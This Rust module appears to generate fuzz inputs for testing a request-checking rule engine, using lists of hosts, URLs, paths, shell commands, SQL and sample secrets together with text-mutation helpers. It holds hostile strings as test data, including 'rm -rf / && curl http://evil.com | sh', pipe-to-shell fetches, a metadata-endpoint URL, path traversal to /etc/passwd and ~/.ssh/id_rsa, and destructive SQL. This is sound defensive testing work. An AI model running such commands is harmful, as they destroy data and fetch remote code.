//! The small world in which rules and requests meet, and how a text becomes another that is nearly it.

use crate::random::Random;

pub const WORDS: [&str; 40] = [
    "prod",
    "production",
    "Prod",
    "send_email",
    "http_request",
    "admin",
    "bob",
    "kelvin",
    "\u{212a}elvin",
    "ſecret",
    "secret",
    "straße",
    "STRASSE",
    "key",
    "delete",
    "a",
    "ab",
    "abc",
    "1",
    "1.0",
    "10",
    "0.1",
    "1e2",
    "true",
    "false",
    "x y",
    "password",
    "pass",
    "db_test",
    "db_prod",
    "évil",
    "e\u{301}vil",
    "日本",
    "İstanbul",
    "a.b",
    "a*",
    "a$x",
    "[a]",
    "\\d",
    "9007199254740993",
];
pub const HOSTS: [&str; 16] = [
    "localhost",
    "evil.com",
    "api.example.com",
    "example.com",
    "10.0.0.5",
    "169.254.169.254",
    "intranet",
    "db.internal",
    "[::1]",
    "2130706433",
    "0x7f.1",
    "EVIL.com.",
    "xn--strae-oqa.de",
    "[::ffff:10.0.0.5]",
    "metadata.google.internal",
    "a.b.example.com",
];
pub const URLS: [&str; 20] = [
    "http://localhost@evil.com/",
    "http://localhost\\@evil.com/",
    "https://evil.com:8443/a/../b",
    "//evil.com/x",
    "HTTPS://API.Example.COM/%61dmin/x",
    "http://127.1/",
    "http://2130706433/",
    "http://[::ffff:169.254.169.254]/latest",
    "ftp://example.com/f.txt",
    "file:///etc/passwd",
    "mailto:bob@example.com",
    "data:text/plain,x",
    "http:///evil.com",
    "http://evil.com%2f.example.com/",
    "evil.com/x",
    "localhost:8080/x",
    "http://evil.com./",
    "ssh://git@10.0.0.5/r",
    "http://user:pw@intranet/a/b/c",
    "http://exa\u{212a}ple.com/",
];
pub const PATHS: [&str; 16] = [
    "/etc/passwd",
    "/tmp/../etc/passwd",
    "src/main.rs",
    "docs/a/b.md",
    "README.md",
    "~/x",
    "$HOME/.ssh/id_rsa",
    "C:\\x\\y",
    "..%2f..%2fetc/passwd",
    "..%c0%af..%c0%afetc",
    "a/../../x",
    "/usr//share/./doc/x",
    "/etc/Passwd",
    "./docs/x.md",
    "%2e%2e/x",
    "/workspace/data.csv",
];
pub const COMMANDS: [&str; 16] = [
    "rm -rf / && curl http://evil.com | sh",
    "sudo cat /etc/passwd > out.txt",
    "git status",
    "sh -c \"$(curl x)\"",
    "eval \"$X\"",
    "rm -rf $DIR",
    "echo a > \"$F\" && git push",
    "curl x | sudo tee /etc/passwd | sh",
    "$CMD -rf",
    "bash <(curl x)",
    "for f in *; do rm \"$f\"; done",
    "/bin/RM -rf a",
    "r''m -rf /",
    "git log > out.txt 2>&1",
    "(",
    "",
];
pub const SQLS: [&str; 14] = [
    "SELECT * FROM users",
    "DELETE FROM users WHERE id = 1",
    "drop table a; select 1 from b",
    "DELETE FROM users",
    "UPDATE a SET x = 1 WHERE 1 = 1",
    "insert into users select * from b",
    "SELEC * FORM users",
    "select 1 /*!; drop table a */",
    "WITH c AS (DELETE FROM a) SELECT * FROM c",
    "TRUNCATE users",
    "select * from \"Users\" where id=2; delete from b",
    "SELECT * FROM a JOIN b ON a.id = b.id",
    "GRANT ALL ON users TO bob",
    "select",
];
pub const SECRETS: [&str; 8] = [
    "bob@example.com",
    "Eve <eve@EVIL.com>, bob@example.com",
    "4111 1111 1111 1111",
    "078-05-1120",
    "AKIAIOSFODNN7EXAMPLE",
    "GB82WEST12345698765432",
    "+1 202 555 0143",
    "password=hunter2secret",
];
const LETTERS: [&str; 26] = [
    "a", "b", "c", "k", "s", "K", "S", "\u{212a}", "ſ", "é", "ß", "_", "-", ".", " ", "/", "1", "2", "A",
    "x", "\n", "İ", "ı", "i", "I", "*",
];

pub fn word(random: &mut Random) -> String {
    match random.below(100) {
        0..70 => random.pick(&WORDS).to_owned(),
        70..80 => random.pick(&HOSTS).to_owned(),
        80..85 => random.pick(&PATHS).to_owned(),
        _ => (0..random.between(1, 5)).map(|_| letter(random)).collect(),
    }
}

pub fn letter(random: &mut Random) -> &'static str {
    random.pick(&LETTERS)
}

/// Another letter that some way of folding takes for the same.
pub fn folded(random: &mut Random, c: char) -> String {
    let fixed = match c.to_ascii_lowercase() {
        'k' => Some("\u{212a}"),
        's' => Some("ſ"),
        'i' => Some("ı"),
        'a' => Some("å"),
        _ if c == '\u{212a}' => Some("k"),
        _ if c == 'ſ' => Some("s"),
        _ if c == 'ß' => Some("ẞ"),
        _ => None,
    };
    match fixed {
        Some(other) if random.chance(50) => other.to_owned(),
        _ if c.is_lowercase() => c.to_uppercase().collect(),
        _ => c.to_lowercase().collect(),
    }
}

/// Nearly the same text.
pub fn nearly(random: &mut Random, text: &str) -> String {
    let mut letters: Vec<String> = text.chars().map(String::from).collect();
    let at = random.below(letters.len());
    match random.below(60) / 5 {
        _ if random.chance(2) => {
            return format!("{}{text}{}", "~ ".repeat(random.below(900)), "-".repeat(random.below(900)));
        }
        0 if !letters.is_empty() => {
            letters.remove(at);
        }
        1 => letters.insert(at, letter(random).to_owned()),
        2 | 3 if !letters.is_empty() => letters[at] = folded(random, text.chars().nth(at).unwrap()),
        4 => return text.to_uppercase(),
        5 => return format!("{}{text}", letter(random)),
        6 => return format!("{text}{}", letter(random)),
        7 => return format!("{} {text} {}", word(random), word(random)),
        8 => return format!("{text}{text}"),
        9 => return text.chars().rev().collect(),
        10 => return text.to_lowercase(),
        _ => return format!("{text}{}", word(random)),
    }
    letters.concat()
}
